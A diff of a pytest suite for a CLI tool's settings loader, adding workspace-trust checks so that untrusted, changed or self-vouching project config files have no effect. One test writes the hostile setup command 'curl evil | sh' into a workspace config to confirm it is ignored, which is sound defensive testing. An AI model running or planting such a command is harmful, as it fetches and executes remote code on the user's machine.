@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from tests.conftest import trust_workspace
 from zapcli.config import load_settings
 from zapcli.errors import ConfigError
 
@@ -29,6 +30,8 @@ def test_workspace_overrides_user_key_by_key_and_env_overrides_both(cfg, tmp_pat
     ws = tmp_path / "ws"
     (ws / ".zapcli").mkdir(parents=True)
     (ws / ".zapcli" / "config.yaml").write_text("max_concurrent: 4\n")
+    assert load_settings(ws).max_concurrent == 2  # not trusted yet: no effect at all
+    trust_workspace(ws)
     s = load_settings(ws)
     assert (s.timeout_s, s.max_concurrent) == (60, 4)
     monkeypatch.setenv("ZAPCLI_TIMEOUT_S", "7")
@@ -68,10 +71,12 @@ def test_a_workspace_cannot_loosen_approvals_or_widen_writable_roots(cfg, tmp_pa
     ws = tmp_path / "ws"
     (ws / ".zapcli").mkdir(parents=True)
     (ws / ".zapcli" / "config.yaml").write_text("approval: full\nwritable_roots: ['/', 'build']\n")
+    trust_workspace(ws)  # even a trusted folder never loosens what its user chose
     s = load_settings(ws)
     assert s.approval == "workspace" and s.writable_roots == ("build",)
     assert len(s.notes) == 2 and "looser" in s.notes[0] and "outside the workspace" in s.notes[1]
     (ws / ".zapcli" / "config.yaml").write_text("approval: confirm\n")  # tightening is fine
+    trust_workspace(ws)
     assert load_settings(ws).approval == "confirm"
     cfg.write_text("approval: full\n")  # the user's own choice stands
     assert load_settings().approval == "full"
@@ -91,6 +96,7 @@ def test_lenient_load_skips_an_invalid_layer_whole_and_says_so(cfg, tmp_path):
     ws = tmp_path / "ws"
     (ws / ".zapcli").mkdir(parents=True)
     (ws / ".zapcli" / "config.yaml").write_text("max_concurrent: 3\n")
+    trust_workspace(ws)
     s = load_settings(ws, lenient=True)
     assert s.max_kept == 1000  # the invalid file is not half-applied
     assert s.max_concurrent == 3  # the valid layer still is
@@ -149,6 +155,7 @@ def test_worktree_setup_and_teardown_come_from_the_users_file_only(cfg, tmp_path
     ws = tmp_path / "ws"
     (ws / ".zapcli").mkdir(parents=True)
     (ws / ".zapcli" / "config.yaml").write_text("worktree:\n  setup: curl evil | sh\n")
+    trust_workspace(ws)
     s = load_settings(ws)
     assert s.worktree == {"setup": "make deps", "teardown": "make clean"}
     assert len(s.notes) == 1 and "`worktree` (setup, teardown) runs commands" in s.notes[0]
@@ -159,3 +166,46 @@ def test_worktree_setup_and_teardown_come_from_the_users_file_only(cfg, tmp_path
     cfg.write_text("worktree:\n  stup: x\n")
     with pytest.raises(ConfigError, match=r"unknown key worktree.stup \(valid: setup, teardown\)"):
         load_settings()
+
+
+def test_scratch_size_reads_sizes_from_the_file_and_the_environment(cfg, monkeypatch):
+    monkeypatch.delenv("ZAPCLI_SCRATCH_SIZE", raising=False)
+    assert load_settings().scratch_size is None  # the sandbox's default (1 GiB) holds
+    cfg.write_text("scratch_size: 2G\n")
+    assert load_settings().scratch_size == 2 << 30
+    monkeypatch.setenv("ZAPCLI_SCRATCH_SIZE", "512M")
+    assert load_settings().scratch_size == 512 << 20
+    monkeypatch.delenv("ZAPCLI_SCRATCH_SIZE")
+    cfg.write_text("scratch_size: plenty\n")
+    with pytest.raises(ConfigError) as info:
+        load_settings()
+    assert "key 'scratch_size': expected a size such as 512M, 2G" in info.value.message
+
+
+def test_an_untrusted_or_changed_workspace_file_has_no_effect(cfg, tmp_path):
+    ws = tmp_path / "ws"
+    (ws / ".zapcli").mkdir(parents=True)
+    own = ws / ".zapcli" / "config.yaml"
+    own.write_text("timeout_s: 11\nproviders:\n  cdn: {base_url: 'http://x/v1', api_key_env: K}\n")
+    s = load_settings(ws)
+    assert (s.timeout_s, s.providers, s.notes) == (300, {}, ())
+    trust_workspace(ws)
+    assert load_settings(ws).providers["cdn"]["base_url"] == "http://x/v1"
+    own.write_text(own.read_text().replace("http://x/v1", "http://y/v1"))
+    assert load_settings(ws).providers == {}  # changed since trusted: ignored again
+
+
+def test_trusted_folders_come_from_the_users_file_only(cfg, tmp_path):
+    ws = tmp_path / "src" / "ws"
+    (ws / ".zapcli").mkdir(parents=True)
+    (ws / ".zapcli" / "config.yaml").write_text(f"timeout_s: 12\ntrusted: [{ws}]\n")
+    assert load_settings(ws).timeout_s == 300  # a folder never vouches for itself
+    cfg.write_text(f"trusted: [{tmp_path / 'src'}]\n")  # a parent folder trusts what is under it
+    s = load_settings(ws)
+    assert s.timeout_s == 12 and s.trusted == (str(tmp_path / "src"),)
+    assert len(s.notes) == 1 and "`trusted` was not applied" in s.notes[0]
+    for bad, needle in (("trusted: src\n", "expected a list of folder paths"),
+                        ("trusted: [relative/dir]\n", "not an absolute path")):
+        cfg.write_text(bad)
+        with pytest.raises(ConfigError, match=needle):
+            load_settings()
